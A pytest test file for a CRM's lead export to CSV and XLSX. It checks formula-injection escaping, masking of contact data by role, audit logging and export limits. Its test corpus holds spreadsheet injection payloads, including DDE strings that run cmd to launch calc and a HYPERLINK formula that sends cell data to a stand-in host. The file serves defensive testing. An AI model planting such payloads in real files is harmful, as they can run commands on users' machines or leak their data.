"""The list as a file: what was asked, nothing a spreadsheet would execute, nothing its reader may not know."""

import csv
import io
import zipfile
from collections.abc import Callable
from http import HTTPStatus
from typing import Any

import pytest
import python_calamine
from django.test import Client

from crm.models import AuditEvent, User
from crm.rules.formulas import is_formula
from crm.rules.roles import Role
from insights.rules.table import safe_cell
from leads import exports
from leads.intake.cells import guarded, unguarded
from leads.models import Lead
from tests.leads_pages.conftest import NAME, PHONE, SECRETS, TakeIn

ClientOf = Callable[[User], Client]

CORPUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?x="&A1,"go")',
    "+1+1",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "-@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "|calc",
    "%0A=1+1",
)


def file_of(client: Client, kind: str, query: str = "") -> Any:
    response = client.get(f"/leads/export.{kind}{query}")
    assert response.status_code == HTTPStatus.OK
    return b"".join(response.streaming_content)


def lines_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("written", [exports.safe, guarded, safe_cell])
@pytest.mark.parametrize("text", CORPUS)
def test_P15_no_text_begins_as_a_formula(text: str, written: Callable[[str], str]) -> None:
    assert written(text) == f"'{text}"


@pytest.mark.parametrize("text", CORPUS)
def test_P15_rows_handed_back_come_in_as_they_were(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", [PHONE, "-15", "+3,5", "Anna", "", "a=b", "1-2", "e@example.com"])
def test_P15_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert exports.safe(text) == text


def test_P15_names_are_safe_and_phones_intact_in_csv(take_in: TakeIn, admin: User, client_of: ClientOf) -> None:
    for number, text in enumerate(CORPUS):
        take_in(name=text, phone=f"+791722014{number:02}")
    client = client_of(admin)
    client.post("/leads/columns/", {"columns": ["phone"]})
    head, *lines = lines_of(file_of(client, "csv"))
    assert len(lines) == len(CORPUS)
    for line in lines:
        assert not is_formula(line[0]), line[0]
    assert {line[head.index("Phone")] for line in lines} == {f"+791722014{number:02}" for number in range(len(CORPUS))}


def test_P15_a_workbook_holds_texts_only(take_in: TakeIn, admin: User, client_of: ClientOf) -> None:
    for number, text in enumerate(CORPUS):
        take_in(name=text, phone=f"+791722014{number:02}")
    client = client_of(admin)
    client.post("/leads/columns/", {"columns": ["phone", "came"]})
    content = file_of(client, "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/sheet" in name]
    assert all("<f>" not in sheet and "<hyperlink" not in sheet for sheet in sheets)
    workbook = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
    rows = workbook.get_sheet_by_name("Leads").to_python()
    assert "+79172201400" in {row[rows[0].index("Phone")] for row in rows[1:]}
    about = workbook.get_sheet_by_name("Question").to_python()
    assert ["Leads", "all leads"] in about


def test_the_file_holds_what_the_list_holds(lead: Lead, take_in: TakeIn, admin: User, client_of: ClientOf) -> None:
    take_in(name="Other", source="yandex")
    _head, *lines = lines_of(file_of(client_of(admin), "csv", "?source=google"))
    assert [line[0] for line in lines] == [NAME]


def test_taking_a_file_is_written_down(lead: Lead, admin: User, client_of: ClientOf) -> None:
    file_of(client_of(admin), "xlsx", "?q=Гульнара")
    (event,) = AuditEvent.objects.filter(action="lead.export")
    assert event.actor_id == admin.pk
    assert event.changes == {"rows": 1, "is_cut": False, "kind": "xlsx", "filters": ["q"]}


def test_the_file_ends_where_it_says(
    take_in: TakeIn, admin: User, client_of: ClientOf, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "MOST_EXPORTED", 2)
    for number in range(4):
        take_in(name=f"Lead {number}")
    lines = lines_of(file_of(client_of(admin), "csv"))
    assert len(lines) == 1 + 2 + 1
    assert lines[-1] == ["Only the newest 2 leads are here."]


@pytest.mark.parametrize("role", [Role.MARKETER, Role.EXECUTIVE])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_masked_roles_take_no_contacts(
    kind: str, role: Role, lead: Lead, users: dict[Role, User], client_of: ClientOf
) -> None:
    content = file_of(client_of(users[role]), kind)
    if kind == "xlsx":
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            content = b"".join(book.read(name) for name in book.namelist())
    assert [secret for secret in SECRETS if secret in content.decode(errors="replace")] == []


def test_a_manager_takes_no_file(lead: Lead, manager: User, client_of: ClientOf) -> None:
    assert client_of(manager).get("/leads/export.csv").status_code == HTTPStatus.FORBIDDEN
    assert not AuditEvent.objects.filter(action="lead.export").exists()


def test_a_head_takes_the_leads_of_the_team(lead: Lead, foreign: Lead, head: User, client_of: ClientOf) -> None:
    _head, *lines = lines_of(file_of(client_of(head), "csv"))
    assert [line[0] for line in lines] == [NAME]


def test_what_is_not_understood_is_refused(lead: Lead, admin: User, client_of: ClientOf) -> None:
    assert client_of(admin).get("/leads/export.csv?source=nowhere").status_code == HTTPStatus.BAD_REQUEST
